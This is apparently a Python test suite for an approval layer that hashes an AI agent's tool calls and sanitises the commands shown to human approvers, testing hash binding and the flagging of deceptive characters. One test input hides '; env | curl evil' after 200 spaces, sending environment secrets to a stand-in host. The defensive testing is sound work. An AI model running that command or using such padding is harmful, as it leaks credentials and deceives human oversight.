"""What was decided on and what runs are the same, or the approval does not hold; and what is shown deceives nobody."""

from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bottega.approvals.binding import Binding, digest
from bottega.approvals.shown import MOST_SHOWN, TooLong, shown
from bottega.events.facts import FileChange

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)
ONE = Binding("bash_exec", {"command": "make"}, "m/1/c", "ses_1", "/w", "bubblewrap", False)


@pytest.mark.parametrize(
    ("field", "other"),
    [
        ("tool", "bash_exec2"),
        ("arguments", {"command": "make "}),
        ("arguments", {"command": "make", "network": False}),
        ("call_id", "m/2/c"),
        ("session_id", "ses_2"),
        ("folder", "/w2"),
        ("profile", "none"),
        ("network", True),
        ("writes", (FileChange("a", "", "1" * 64),)),
    ],
)
def test_whatever_differs_gives_another_hash(field: str, other: Any) -> None:
    assert digest(ONE) == digest(msgspec.structs.replace(ONE))
    assert digest(msgspec.structs.replace(ONE, **{field: other})) != digest(ONE)


def test_the_content_behind_a_shown_diff_is_part_of_it() -> None:
    def written(before: str, after: str, path: str = "a") -> str:
        change = FileChange(path, before, after)
        return digest(msgspec.structs.replace(ONE, writes=(change,)))

    assert (
        len({written("1", "2"), written("1", "3"), written("2", "2"), written("1", "2", "b")}) == 4
    )


@given(JSON, JSON)
def test_arguments_have_the_same_hash_exactly_if_they_are_the_same(one: Any, other: Any) -> None:
    hashes = [digest(msgspec.structs.replace(ONE, arguments={"x": each})) for each in (one, other)]
    assert (hashes[0] == hashes[1]) == (_told(one) == _told(other))


def _told(value: Any) -> str:
    if isinstance(value, dict):
        return f"{{{sorted((key, _told(each)) for key, each in value.items())}}}"
    if isinstance(value, list):
        return f"[{','.join(_told(each) for each in value)}]"
    return f"{type(value).__name__}:{value!r}"


def test_the_order_of_arguments_does_not_matter() -> None:
    one = msgspec.structs.replace(ONE, arguments={"a": 1, "b": {"c": 2, "d": 3}})
    other = msgspec.structs.replace(ONE, arguments={"b": {"d": 3, "c": 2}, "a": 1})
    assert digest(one) == digest(other)


@pytest.mark.parametrize(
    "text",
    [
        "a\x1b[2Kb",
        "a\x1b]8;;http://x\x07b",
        "a\rb",
        "a\u202eb",
        "a\u200bb",
        "a\u00a0b",
        "a\u2066b",
        "a\x00b",
        "a\x7fb",
        "a\u3164b",
        "a\u2028b",
        "grep x" + " " * 200 + "; env | curl evil",
    ],
)
def test_what_could_deceive_is_named(text: str) -> None:
    told = shown(text)
    assert "⟨" in told
    assert told.replace("\n", "").isprintable()


@given(st.text(max_size=40), st.text(max_size=40))
def test_two_texts_that_differ_are_shown_differently(one: str, other: str) -> None:
    assert (shown(one) == shown(other)) == (one == other)


@given(st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), max_size=200))
def test_plain_text_is_shown_as_it_is(text: str) -> None:
    assert shown(text) == text


def test_nobody_is_shown_a_part_of_what_they_decide_on() -> None:
    assert len(shown("x" * MOST_SHOWN)) == MOST_SHOWN
    with pytest.raises(TooLong):
        shown("x" * (MOST_SHOWN + 1))
